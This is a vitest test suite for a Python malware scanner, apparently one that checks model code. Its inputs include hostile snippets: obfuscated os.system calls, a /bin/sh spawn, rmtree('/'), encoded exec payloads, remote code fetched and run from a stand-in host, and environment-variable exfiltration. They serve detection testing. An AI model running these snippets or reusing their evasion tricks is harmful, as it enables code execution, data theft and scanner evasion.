import { Buffer } from 'node:buffer'
import { describe, expect, test } from 'vitest'
import { atLeast } from '../../kernel/index.ts'
import { look } from '../testing/look.ts'
import { pythonHeaderOf } from './header-of.ts'

const python = (source: string, path = 'modeling.py'): ReturnType<typeof look> => look(Buffer.from(source), path)

describe('what is run on import is high, in every spelling', () => {
  test.each([
    'import os\nos.system("id")',
    'import os as o; o.system("id")',
    'from os import system\nsystem("id")',
    'from os import system as s, path\ns("id")',
    'from os import (\n  path,\n  popen as p,\n)\np("id")',
    'from os import *\nsystem("id")',
    '__import__("os").system("id")',
    '__import__("o" + "s").system("id")',
    '__import__("so"[::-1]).system("id")',
    '__import__("".join(["o", "s"])).system("id")',
    '__import__(chr(111) + chr(115)).system("id")',
    '__import__(bytes([111, 115]).decode()).system("id")',
    'import importlib\nimportlib.import_module("os").system("id")',
    'from importlib import import_module as i\nm = i("subprocess")\nm.run(["id"])',
    'import os\ngetattr(os, "system")("id")',
    'import os\ngetattr(os, "sys" + "tem")("id")',
    'import os\nos.__dict__["system"]("id")',
    'import os\nvars(os)["system"]("id")',
    'import sys, os\nsys.modules["os"].system("id")',
    'import os\nf = os.system\nf("id")',
    'import os\nf = g = os.system\ng("id")',
    'import os\na, b = 1, os.system\nb("id")',
    'import os\nif (f := os.system): f("id")',
    'import os\nlist(map(os.system, ["id"]))',
    'import os\nfor f in [os.system]: f("id")',
    'import os\nclass A:\n  x = os.system("id")',
    'import os\nclass A:\n  __class_getitem__ = os.system\nA["id"]\nprint(A.__add__)\nX = {"f": os.system}',
    'import os\ndef f(a=os.system("id")): pass',
    'import os\n@os.system\ndef f(): pass',
    'import os\ndef f():\n  os.system("id")\nf()',
    'import os\ndef g():\n  f()\ndef f():\n  os.system("id")\nclass A:\n  def __init__(self): g()\nA()',
    'import os\nclass A:\n  @staticmethod\n  def go(): os.system("id")\nA.go()',
    'import os\nclass A:\n  def go(self): self.on()\n  def on(self): os.system("id")\na = A()\na.go()',
    'import os\nclass A:\n  f = os.system\nA.f("id")',
    'import os\nx = f"{os.system("id")}"',
    "import os\nx = f'{os.system('id')!r:>10}'",
    'import os\nx = [os.system(y) for y in ["id"]]',
    'import os\ntry: f = os.system\nexcept E: pass\nf("id")',
    'import os\nif True:\n\tos.system("id")',
    'from x import *\nos.system("id")',
    'import os\nos.\\\n  system("id")',
    'import os\n(os\n  .system)(\n  "id")',
    'import \uff4f\uff53\n\uff4f\uff53.system("id")',
    'import subprocess\nwith subprocess.Popen(["id"]) as p: pass',
    'import subprocess as s\nX = s.check_output("id", shell=True)',
    'import pty\npty.spawn("/bin/sh")',
    'import os\nimport atexit\natexit.register(os.system, "id")',
    'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()',
    'exec("import os\\nos.system(1)")',
    'eval("1")',
    '__builtins__["eval"]("1")',
    'globals()["__builtins__"]["exec"]("1")',
    'getattr(__builtins__, "ex" + "ec")("1")',
    '@exec\n@input\nclass X: pass',
    'import builtins\nbuiltins.exec(open("x").read())',
    'import ctypes\nctypes.CDLL("./x.so")',
    'import torch\ntorch.ops.load_library("x.so")',
    'import pickle\npickle.loads(b"x")',
    'from pickle import load\nload(open("x", "rb"))',
    'import joblib\nm = joblib.load("x")',
    'import socket\ns = socket.socket()\ns.connect(("203.0.113.5", 1))',
    'import requests\nrequests.get("http://x.invalid")',
    'from urllib.request import urlopen\nurlopen("http://x.invalid")',
    'import urllib.request\nurllib.request.urlretrieve("http://x.invalid", "x")',
    'import shutil\nshutil.rmtree("/")',
    'import os\ngetattr(os, x)("id")',
    'import runpy\nrunpy.run_path("x.py")',
    'import os, sys\nif sys.argv: pass\nelse: os.execvp("sh", ["sh"])',
    'x = 1;import os;os.system("id")',
    'import os\nasync def f(): pass\nprint((lambda: 0)(), os.popen("id").read())',
  ])('%s', (source) => {
    const { findings } = python(source)
    expect(findings.some(({ severity }) => atLeast(severity, 'high'))).toBe(true)
  })
})

test.each([
  'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
  'import base64 as b, zlib\nexec(zlib.decompress(b.b64decode("eA==")))',
  'from base64 import b64decode as d\ncode = d("cHJpbnQoMSk=")\nexec(compile(code, "", "exec"))',
  'exec(bytes.fromhex("7072696e74"))',
  'import codecs\neval(codecs.decode("cevag(1)", "rot13"))',
  'import marshal\nexec(marshal.loads(b"x"))',
  'import requests\nexec(requests.get("http://x.invalid").text)',
  'from urllib.request import urlopen\nexec(urlopen("http://x.invalid").read().decode())',
])('hidden code is critical: %s', (source) => {
  expect(python(source).verdict).toBe('block')
})

test('what only functions do is medium, and usual things say nothing', () => {
  expect(python('import os\ndef f():\n  os.system("id")\n').findings).toMatchObject([
    { ruleId: 'PY-PROCESS-002', severity: 'medium' },
  ])
  expect(python('import os\nif __name__ == "__main__":\n  os.system("id")\n').ids).toEqual(['PY-PROCESS-002'])
  expect(python('import os\nif __name__ == "__main__":\n  pass\nelse:\n  os.system("id")\n').ids).toEqual([
    'PY-PROCESS-001',
  ])
  expect(python('import os\nf = lambda: os.system("id")\n').ids).toEqual(['PY-PROCESS-002'])
  expect(python('class H:\n  def __init__(self, p): __import__("os").system("id")\n').ids).toEqual(['PY-PROCESS-002'])
  expect(python('import os, requests\ndef f():\n  requests.post("u", json=dict(os.environ))\n').ids).toContain(
    'PY-EXFIL-001',
  )
})

const modeling = `# coding: utf-8
"""A model. Run \`curl x | sh\` never; see ~/.bashrc."""
from __future__ import annotations
import math
import re
from typing import Optional, Tuple, Union
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig

logger = logging.get_logger(__name__)
_PATTERN = re.compile(r"\\d+")

class Attention(nn.Module):
    def __init__(self, config: XConfig, layer_idx: Optional[int] = None, **kwargs):
        super().__init__()
        self.q = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[config.hidden_act]
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x: torch.Tensor, mask=None) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        q, k = self.q(x), self.q(x)
        w = (q @ k.transpose(-1, -2)) * self.scale
        w = w[:, :, None] if mask is None else w + mask
        return nn.functional.softmax(w, dim=-1), None

@torch.jit.script
def fused(x: torch.Tensor):
    return x * torch.sigmoid(x)

class XModel(PreTrainedModel):
    config_class = XConfig
    def eval(self):
        return self.model.eval()
    def compile(self):
        self.model = torch.compile(self.model)
    @classmethod
    def from_x(cls, path):
        return getattr(cls, "from_pretrained")(path)
    def save_vocabulary(self, path):
        with open(path, "w", encoding="utf-8") as f:
            f.write(f"{self.a['b']:>{self.width}} {{literal}}")

model_fn = lambda x, *a, **k: XModel(x)
XModel.register_for_auto_class("AutoModel")
if __name__ == "__main__":
    print("ok", os.environ.get("HOME"))
`

test('plain modeling code passes', () => {
  const { verdict, findings, facts } = python(modeling)
  expect({ verdict, findings }).toEqual({ verdict: 'pass', findings: [] })
  expect(pythonHeaderOf(facts)?.imports).toContain('transformers')
})

test('what breaks off, hides its encoding, or is too deep does not pass', () => {
  expect(python('import os\nx = (1,\n').ids).toContain('PY-SYNTAX-001')
  expect(python('import os\nos.system("id"\n').ids).toContain('PY-SYNTAX-002')
  expect(python('# -*- coding: utf-7 -*-\nx = 1\n').ids).toContain('PY-ENCODING-001')
  expect(python(`${'('.repeat(5_000)}${')'.repeat(5_000)}`).verdict).not.toBe('pass')
  expect(python(`x = ${'-('.repeat(150)}1${')'.repeat(150)}`).verdict).not.toBe('pass')
  expect(python(`f"${'{f"'.repeat(300)}${'"}'.repeat(300)}"`).verdict).not.toBe('pass')
})

test('prose that begins like Python is text', () => {
  const { facts, verdict } = look(Buffer.from("import this\nThat's how it (all began.\n"), 'README.md')
  expect(facts.format).toBe('text')
  expect(verdict).toBe('pass')
})

test('source without its name is still read', () => {
  expect(look(Buffer.from('import os\nos.system("id")\n'), 'notes.txt').ids).toContain('PY-PROCESS-001')
})

test('every prefix of a source that starts a program never passes as Python once the call is there', () => {
  const source = 'import os\nclass A:\n  f = os.system("id")\n'
  for (let length = source.indexOf('(') + 1; length <= source.length; length++)
    expect(python(source.slice(0, length)).verdict, `${length}`).not.toBe('pass')
})
